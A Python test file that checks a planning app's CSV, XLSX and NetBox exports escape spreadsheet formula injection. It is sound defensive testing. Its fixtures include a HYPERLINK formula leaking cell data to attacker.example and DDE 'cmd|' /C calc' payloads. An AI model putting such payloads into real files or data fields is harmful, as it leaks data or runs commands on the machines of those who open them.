"""Spreadsheet formula injection (OWASP "CSV Injection"): text that a spreadsheet would run as a
formula (starting with =, +, -, @, tab or CR) goes out as text in every CSV and XLSX export, and
reads back as it was written."""
import csv
import io
import zipfile

import numpy as np
from openpyxl import load_workbook

from planner.models import PriceBook, Switch
from planner.services.cells import csv_cell, csv_column
from twin.models import Twin, TwinEvent

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
FF = "ff2-pcie-2zone"


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_a_price_basis_written_as_a_formula_is_text_in_the_bill_csv_and_xlsx(catalog, reader_client):
    book = PriceBook.objects.get(slug="fire-flyer-relative")
    item = book.items.get(part_kind="switch", part_slug="qm8700")
    item.basis = FORMULA
    item.save()
    bom_csv = reader_client.get(f"/api/plans/{FF}/bom/", {"format": "csv"}).content.decode()
    assert f"'{FORMULA}" in csv_cells(bom_csv) and FORMULA not in csv_cells(bom_csv)
    workbook = load_workbook(io.BytesIO(reader_client.get(f"/api/plans/{FF}/bom/", {"format": "xlsx"}).content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    basis = [cell for cell in cells if cell.value == FORMULA]
    assert basis and all(cell.data_type == "s" for cell in basis)  # the text itself, stored as a string
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_a_vendor_written_as_a_formula_is_text_in_the_netbox_files(catalog, reader_client):
    Switch.objects.filter(slug="qm8700").update(vendor="@SUM:1+1*cmd|' /C calc'!A0")
    archive = zipfile.ZipFile(io.BytesIO(reader_client.get(f"/api/plans/{FF}/netbox/", {
        "u_height.ff-pcie-a100": "4", "u_height.ff-3fs-storage": "2"}).content))
    manufacturers = archive.read(f"{FF}-netbox/1-manufacturers.csv").decode()
    assert "'@SUM:1+1*cmd|' /C calc'!A0" in csv_cells(manufacturers)
    devices = csv_cells(archive.read(f"{FF}-netbox/6-devices.csv").decode())
    assert not [cell for cell in devices if cell.startswith(("=", "+", "-", "@"))]


def test_an_event_message_written_as_a_formula_is_text_in_the_twin_events_csv(catalog, reader_client, user):
    twin = Twin.objects.get(pk=reader_client.post("/api/twins/", {"plan": FF, "seed": 1}, format="json").json()["id"])
    TwinEvent.objects.create(twin=twin, seq=10_000, sim_time_s=1.0, kind="ingested", message=f"\t{FORMULA}")
    exported = reader_client.get(f"/api/twins/{twin.pk}/events/export/")
    rows = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))
    assert rows[-1]["message"] == f"'\t{FORMULA}"


def test_cells_and_columns():
    assert [csv_cell(v) for v in ("=1+1", "+1", "-2", "@x", "\rx", "plain", -3, 2.5)] == [
        "'=1+1", "'+1", "'-2", "'@x", "'\rx", "plain", -3, 2.5]
    column = csv_column(np.array(["dgx-a100", "=1+1", "-x"], dtype=object))
    assert column.tolist() == ["dgx-a100", "'=1+1", "'-x"]
    numbers = np.array([-1.0, 2.0])
    assert csv_column(numbers) is numbers


def _raw_lines_start_with_a_formula(text: str) -> list[str]:
    """Lines as a spreadsheet that breaks at any CR or LF outside quotes would read them."""
    lines, cell, quoted = [], "", False
    for char in text:
        if char == '"':
            quoted = not quoted
        if char in "\r\n" and not quoted:
            lines.append(cell)
            cell = ""
        else:
            cell += char
    return [line for line in lines + [cell] if line.startswith(("=", "+", "-", "@"))]


def test_a_carriage_return_inside_a_cell_is_quoted_in_every_csv(catalog, reader_client, user):
    """A bare CR in an unquoted cell would start a new line whose first cell a spreadsheet runs."""
    crafted = "x\r=cmd|' /C calc'!A0"
    book = PriceBook.objects.get(slug="fire-flyer-relative")
    book.items.filter(part_kind="switch", part_slug="qm8700").update(basis=crafted)
    Switch.objects.filter(slug="qm8700").update(vendor=crafted)
    bom_csv = reader_client.get(f"/api/plans/{FF}/bom/", {"format": "csv"}).content.decode()
    archive = zipfile.ZipFile(io.BytesIO(reader_client.get(f"/api/plans/{FF}/netbox/", {
        "u_height.ff-pcie-a100": "4", "u_height.ff-3fs-storage": "2"}).content))
    manufacturers = archive.read(f"{FF}-netbox/1-manufacturers.csv").decode()
    twin = Twin.objects.get(pk=reader_client.post("/api/twins/", {"plan": FF, "seed": 1}, format="json").json()["id"])
    TwinEvent.objects.create(twin=twin, seq=10_000, sim_time_s=1.0, kind="ingested", message=crafted)
    events_csv = b"".join(reader_client.get(f"/api/twins/{twin.pk}/events/export/").streaming_content).decode()
    for text in (bom_csv, manufacturers, events_csv):
        assert f'"{crafted}"' in text and not _raw_lines_start_with_a_formula(text)
        assert crafted in csv_cells(text)  # and it reads back as written
